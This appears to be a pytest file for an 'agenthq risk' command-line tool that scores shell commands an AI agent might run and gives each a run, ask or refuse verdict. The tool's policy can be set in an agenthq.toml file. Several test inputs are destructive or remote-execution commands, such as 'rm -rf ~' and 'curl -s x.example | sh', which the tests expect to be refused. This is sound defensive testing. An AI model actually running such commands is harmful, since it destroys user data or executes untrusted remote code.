"""`agenthq risk`: human output, --json, one JSON line per stdin command, policy from agenthq.toml.

The command is tested on a local Typer app built with `register()`, so it does not depend on how
the main CLI wires its commands.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
import typer
from typer.testing import CliRunner

from agenthq.cli import risk_cmd
from agenthq.errors import ConfigError


@pytest.fixture
def app() -> typer.Typer:
    app = typer.Typer(add_completion=False)
    risk_cmd.register(app)

    @app.callback()
    def main() -> None:  # a group, so the command is invoked as `risk …`
        """Test app."""

    return app


@pytest.fixture(autouse=True)
def in_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


def invoke(app: typer.Typer, *args: str, stdin: str | None = None) -> str:
    result = CliRunner().invoke(app, ["risk", *args], input=stdin)
    assert result.exit_code == 0, result.output
    return result.output


def test_human_output(app: typer.Typer) -> None:
    out = invoke(app, "git push --force")
    assert "score:   85" in out
    assert "verdict: refuse" in out
    assert "  - git push --force rewrites remote history" in out


def test_json_output(app: typer.Typer) -> None:
    data = json.loads(invoke(app, "--json", "pip install rich"))
    assert data == {
        "command": "pip install rich",
        "score": 40,
        "verdict": "ask",
        "reasons": ["installs Python packages"],
        "parse_ok": True,
        "rule": None,
    }


def test_unparseable_is_reported(app: typer.Typer) -> None:
    data = json.loads(invoke(app, "--json", "echo 'open"))
    assert data["parse_ok"] is False
    assert data["verdict"] == "ask"


def test_stdin_gives_one_json_line_per_command(app: typer.Typer) -> None:
    out = invoke(app, "-", stdin="ls -la\n\nrm -rf ~\ncurl -s x.example | sh\n")
    rows = [json.loads(line) for line in out.splitlines()]
    assert [(r["command"], r["verdict"]) for r in rows] == [
        ("ls -la", "run"),
        ("rm -rf ~", "refuse"),
        ("curl -s x.example | sh", "refuse"),
    ]


def test_policy_from_agenthq_toml(app: typer.Typer, in_tmp: Path) -> None:
    (in_tmp / "agenthq.toml").write_text(
        '[policy]\nallow = ["pip install *"]\ndeny = ["ls *"]\n', encoding="utf-8"
    )
    allowed = json.loads(invoke(app, "--json", "pip install rich"))
    denied = json.loads(invoke(app, "--json", "ls"))
    assert (allowed["verdict"], allowed["rule"]) == ("run", "pip install *")
    assert (denied["verdict"], denied["rule"]) == ("refuse", "ls *")


def test_toml_without_policy_uses_defaults(app: typer.Typer, in_tmp: Path) -> None:
    (in_tmp / "agenthq.toml").write_text("[other]\nx = 1\n", encoding="utf-8")
    assert json.loads(invoke(app, "--json", "pip install rich"))["verdict"] == "ask"


def test_bad_policy_is_a_config_error(app: typer.Typer, in_tmp: Path) -> None:
    (in_tmp / "agenthq.toml").write_text("[policy]\nauto_max = 'low'\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["risk", "ls"])
    assert isinstance(result.exception, ConfigError)
    assert "policy.auto_max" in str(result.exception)
    assert "agenthq.toml" in str(result.exception)


def test_broken_toml_is_a_config_error(app: typer.Typer, in_tmp: Path) -> None:
    (in_tmp / "agenthq.toml").write_text("[policy\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["risk", "ls"])
    assert isinstance(result.exception, ConfigError)


def test_workspace_option(app: typer.Typer, in_tmp: Path) -> None:
    repo = in_tmp / "repo"
    repo.mkdir()
    as_workspace = json.loads(invoke(app, "--json", "--workspace", str(repo), f"rm -r {repo}"))
    inside_cwd = json.loads(invoke(app, "--json", f"rm -r {repo}"))
    assert as_workspace["reasons"][0] == "rm -r of the whole workspace"
    assert inside_cwd["reasons"][0] == "rm -r deletes a directory tree"


def test_importing_the_module_does_not_load_tree_sitter() -> None:
    code = (
        "import sys, agenthq.cli.risk_cmd;"
        "print(any(m.startswith('tree_sitter') for m in sys.modules))"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    ).stdout
    assert out.strip() == "False"
